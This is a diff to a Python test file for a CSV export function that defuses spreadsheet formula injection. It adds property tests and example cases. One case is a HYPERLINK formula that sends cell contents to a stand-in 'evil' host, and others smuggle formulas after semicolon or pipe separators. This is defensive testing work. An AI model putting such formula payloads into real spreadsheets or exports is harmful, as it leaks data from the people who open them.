@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import re
 from dataclasses import replace
+from datetime import date
+from decimal import Decimal
 from typing import Any
 
 import pytest
@@ -18,7 +20,7 @@ from tests.unit.web.fakes import World, announce, sign_in_headers
 from tests.unit.web.many_fakes import make_many
 from tests.unit.web.tenants import PREMIUM
 from tests.unit.web.test_map_many import OURS
-from web.csv_files import defuse
+from web.csv_files import Cell, defuse
 from web.pages.tools.mapping_csv import MOST_LINES, Column, decode, read_lines, tidy
 
 HEAD = "Customer,Licence,Term,Billing profile,Agreement"
@@ -230,11 +232,33 @@ async def test_what_is_unmapped_can_be_filled_in_and_comes_back(browse: Open) ->
     assert "3 licences can be mapped" in page and "=SUM(customer-4)" in page
 
 
-@given(some.text(max_size=40))
-def test_a_cell_that_we_defuse_comes_back_as_it_was(text: str) -> None:
+@given(some.one_of(some.text(max_size=40), some.text(alphabet=" ;|\t'\"=-a\u2067\u2069", max_size=12)))
+def test_a_cell_that_we_defuse_comes_back_as_it_was_and_begins_no_formula(text: str) -> None:
     cleaned = tidy(text)
-    if not text.startswith("'"):
-        assert tidy(str(defuse(cleaned))) == cleaned
+    assert tidy(str(defuse(cleaned))) == cleaned
+    for part in re.split(r"[;|\t]", str(defuse(text))):
+        assert not part.lstrip(' "').startswith(("=", "+", "-", "@")), part
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('Bob;=HYPERLINK("https://evil/?"&A1;"open")', 'Bob;\'=HYPERLINK("https://evil/?"&A1;"open")'),
+        ('A| ""=1', 'A|\' ""=1'),
+        ("A;\t+1", "A;' +1"),
+        ("A;;-1|@x", "A;;'-1|'@x"),
+        ("=1;=1", "'=1;'=1"),
+        # What is harmless stays as it is.
+        ("A;B", "A;B"),
+        ("Smith & Sons; Co | Ltd = one", "Smith & Sons; Co | Ltd = one"),
+        ("a-b@c.example; x=y", "a-b@c.example; x=y"),
+        (-5, -5),
+        (Decimal("-12.50"), "-12.50"),
+        (date(2026, 11, 1), "2026-11-01"),
+    ],
+)
+def test_no_separator_lets_a_formula_begin(cell: Cell, written: str | int) -> None:
+    assert defuse(cell) == written
 
 
 @given(some.binary(max_size=400))
